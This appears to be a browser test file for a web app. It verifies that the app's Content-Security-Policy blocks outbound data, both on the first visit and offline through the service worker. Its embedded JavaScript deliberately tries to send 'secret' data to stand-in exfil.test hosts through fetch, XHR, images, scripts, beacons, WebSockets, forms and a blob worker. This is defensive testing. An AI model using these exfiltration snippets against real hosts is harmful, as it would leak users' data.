"""The security policy (issue 12) is enforced by the browser, on a host that sends no security
headers at all (GitHub Pages): by the pages' <meta> tags on the first visit, and by the
service worker's headers when it serves the installed app offline.

From inside the running page, every way of sending data to another origin is refused with a
``securitypolicyviolation`` event: fetch, XMLHttpRequest, an <img>, a <script>,
navigator.sendBeacon, a WebSocket, a form post, and a fetch from a blob: worker (the way the
model worker starts, so it inherits the page's policy).
"""

from __future__ import annotations

import pytest
from test_pwa import Site, page_ready, sw_ready

import security

pytestmark = pytest.mark.browser

# vector -> the directive that must refuse it; each vector uses its own host (<vector>.exfil.test)
VECTORS = {
    "fetch": "connect-src",
    "xhr": "connect-src",
    "img": "img-src",
    "script": "script-src-elem",
    "beacon": "connect-src",
    "websocket": "connect-src",
    "form": "form-action",
    "worker": "connect-src",
}

EXFIL_JS = """
const [vectors, timeoutMs, done] = arguments;
const seen = {};
const note = (e) => {
  let host = "";
  try { host = new URL(e.blockedURI).hostname; } catch (err) { host = String(e.blockedURI); }
  const v = host.split(".")[0];
  if (v in vectors && !(v in seen)) seen[v] = e.effectiveDirective;
};
document.addEventListener("securitypolicyviolation", note);
const at = (v, scheme) => `${scheme || "http"}://${v}.exfil.test/photo?data=secret`;
const attempt = (f) => { try { f(); } catch (err) { /* refused synchronously: still an event */ } };
attempt(() => fetch(at("fetch"), { method: "POST", body: "secret" }).catch(() => {}));
attempt(() => { const x = new XMLHttpRequest(); x.open("POST", at("xhr")); x.send("secret"); });
attempt(() => { const i = new Image(); i.src = at("img"); document.body.appendChild(i); });
attempt(() => { const s = document.createElement("script"); s.src = at("script");
                document.head.appendChild(s); });
attempt(() => navigator.sendBeacon(at("beacon"), "secret"));
attempt(() => new WebSocket(at("websocket", "ws")));
attempt(() => {
  const f = document.createElement("form");
  f.method = "post"; f.action = at("form"); f.hidden = true;
  const i = document.createElement("input"); i.name = "photo"; i.value = "secret";
  f.appendChild(i); document.body.appendChild(f); f.submit();
});
attempt(() => {
  const code = `addEventListener("securitypolicyviolation",
                                  (e) => postMessage(e.effectiveDirective));
    fetch(${JSON.stringify(at("worker"))}).catch(() => {});`;
  const w = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  w.onmessage = (e) => { if (!("worker" in seen)) seen.worker = e.data; };
});
const t0 = Date.now();
(function wait() {
  if (Object.keys(seen).length === Object.keys(vectors).length || Date.now() - t0 > timeoutMs) {
    document.removeEventListener("securitypolicyviolation", note);
    done({ seen, location: location.href });
  } else {
    setTimeout(wait, 50);
  }
})();
"""


def assert_exfiltration_blocked(driver, when: str) -> None:
    """Every vector is refused by the directive that governs it (and the page stays put)."""
    got = driver.execute_async_script(EXFIL_JS, VECTORS, 60_000)
    assert got["seen"] == VECTORS, f"{when}: {got}"
    assert ".exfil.test" not in got["location"], f"{when}: the page navigated away: {got}"


def test_policy_blocks_sending_data_elsewhere_first_visit_and_offline(tmp_path, make_chrome):
    site = Site(tmp_path)
    srv = site.serve(isolation=False, security_headers=False)  # like GitHub Pages
    url = srv.url
    d = make_chrome().driver
    try:
        d.get(url)
        # no reload for cross-origin isolation in the middle of the checks (pwa.js)
        d.execute_script("document.documentElement.dataset.coiReload = 'off'")
        page_ready(d, 180)
        meta = d.execute_script(
            "return document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
        )
        assert meta == security.csp(meta=True)
        assert_exfiltration_blocked(d, "first visit, <meta> policy only")
        sw_ready(d)
    finally:
        srv.stop()
    d.get(url)
    page_ready(d, 120)
    served = d.execute_async_script(
        "const done = arguments[0];"
        "fetch(location.href).then((r) => done(Object.fromEntries(r.headers)),"
        " (e) => done(String(e)));"
    )
    expected = {k.lower(): v for k, v in security.headers().items()}
    assert {k: served.get(k) for k in expected} == expected, served
    allowed = d.execute_script(
        "const p = document.permissionsPolicy || document.featurePolicy;"
        "return p ? [p.allowsFeature('camera'), p.allowsFeature('microphone'),"
        " p.allowsFeature('geolocation')] : null"
    )
    assert allowed == [True, False, False], allowed
    assert_exfiltration_blocked(d, "offline, served by the service worker")
